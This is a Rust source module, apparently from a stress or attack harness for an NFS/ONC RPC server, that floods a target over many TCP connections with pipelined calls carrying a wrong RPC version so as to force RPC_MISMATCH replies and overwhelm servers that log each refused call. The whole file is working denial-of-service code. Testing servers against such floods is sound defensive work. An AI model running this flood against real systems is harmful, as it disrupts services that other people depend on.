//! A flood of calls with RPC version 3: every one must be answered RPC_MISMATCH (RFC 5531 §9), and a
//! server that logs a line per refused call hands the attacker its stderr. Each connection writes
//! batches of pipelined calls while a second thread reads and drops the replies.

use std::io::{ErrorKind, Read};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::time::Duration;

use super::{open, sleep_unless_stopped, write_all_unless_stopped, Tally, REOPEN_PAUSE};
use crate::rpc::{encode_call, Proc};

/// Calls per write.
const BATCH: u32 = 256;

pub(super) fn run(addr: SocketAddr, connections: usize, stop: &AtomicBool, tally: &Tally) {
    std::thread::scope(|scope| {
        for conn in 0..connections {
            scope.spawn(move || flood(addr, conn as u32, stop, tally));
        }
    });
}

fn flood(addr: SocketAddr, conn: u32, stop: &AtomicBool, tally: &Tally) {
    let batch: Vec<u8> = (0..BATCH)
        .flat_map(|i| encode_call((conn << 24) | i, Proc { rpcvers: 3, ..Proc::nfs3(0) }, (0, 0), &[]))
        .collect();
    while !stop.load(Relaxed) {
        let Some(mut stream) = open(addr, tally) else {
            sleep_unless_stopped(REOPEN_PAUSE, stop);
            continue;
        };
        let _ = stream.set_write_timeout(Some(Duration::from_millis(100)));
        let Ok(reader) = stream.try_clone() else {
            return;
        };
        std::thread::scope(|scope| {
            scope.spawn(move || drain(reader, stop));
            loop {
                match write_all_unless_stopped(&mut stream, &batch, stop) {
                    Ok(true) => tally.sent(u64::from(BATCH), batch.len() as u64),
                    Ok(false) => break,
                    Err(()) => {
                        tally.closed();
                        break;
                    }
                }
            }
            let _ = stream.shutdown(std::net::Shutdown::Both);
        });
    }
}

/// Reads and drops replies until the connection ends or the attack stops.
fn drain(mut stream: TcpStream, stop: &AtomicBool) {
    let _ = stream.set_read_timeout(Some(Duration::from_millis(100)));
    let mut buf = vec![0u8; 64 << 10];
    while !stop.load(Relaxed) {
        match stream.read(&mut buf) {
            Ok(0) => return,
            Ok(_) => {}
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut | ErrorKind::Interrupted) => {}
            Err(_) => return,
        }
    }
}
